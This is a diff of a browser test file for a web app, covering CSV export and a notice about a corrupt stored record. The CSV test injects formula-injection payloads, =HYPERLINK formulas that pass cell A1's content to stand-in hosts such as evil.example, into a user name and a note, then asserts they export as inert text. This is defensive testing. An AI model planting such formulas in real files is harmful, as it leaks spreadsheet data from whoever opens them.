@@ -324,7 +324,10 @@ def test_3_9_markdown_export_is_inert(page, alpha):
 
 
 def test_7_13_csv_export_neutralises_formulas(page, alpha):
-    """7.13 (runs): a note starting with = exports as text in the CSV, not as a formula."""
+    """7.13 (runs): text that starts a CSV cell with = (here the person's name, which fills the 操作人
+    column on its own; and a note) exports as text, not as a formula."""
+    page.goto(alpha)
+    page.evaluate("""localStorage.setItem('pb:identity', JSON.stringify({name: '=HYPERLINK("http://e.x/?"&A1,"点")', role: '客服专员'}))""")
     start_run(page, alpha, severity="low")
     note_form(page, "record")
     save_inline(page, "record", '=HYPERLINK("http://evil.example/?"&A1,"点击")')
@@ -333,6 +336,7 @@ def test_7_13_csv_export_neutralises_formulas(page, alpha):
         page.click("button:has-text('导出 CSV')")
     text = open(dl.value.path(), encoding="utf-8-sig").read()
     cells = [c for line in text.splitlines() for c in line.split('","')]
+    assert any("HYPERLINK" in c for c in cells)
     assert not any(c.lstrip('"').startswith(("=", "+", "-", "@")) for c in cells)
 
 
@@ -517,14 +521,15 @@ def test_2_5_corrupt_record_stays_where_the_notice_says_while_storage_is_full(pa
     page.evaluate("([k, v]) => localStorage.setItem(k, v)", [key, corrupt])
     page.evaluate(FILL)
     page.reload()
-    page.wait_for_selector(f".pb-notice:has-text('{key}')")
-    assert "原样保留" in page.inner_text(f".pb-notice:has-text('{key}')")
+    named = key.removeprefix("pb:")  # the notice may name the key without the prefix every key has
+    page.wait_for_selector(f".pb-notice:has-text('{named}')")
+    assert "原样保留" in page.inner_text(f".pb-notice:has-text('{named}')")
     start_run_here(page, "2026001")
     page.check("#pb-check-record")
-    page.wait_for_selector(".pb-notice:has-text('空间已满')")
     assert corrupt == page.evaluate("k => localStorage.getItem(k)", key)
+    page.wait_for_selector(".pb-notice:has-text('空间已满')")  # storage really was full
     page.reload()
-    page.wait_for_selector(f".pb-notice:has-text('{key}')")
+    page.wait_for_selector(f".pb-notice:has-text('{named}')")
     assert corrupt == page.evaluate("k => localStorage.getItem(k)", key)
 
 
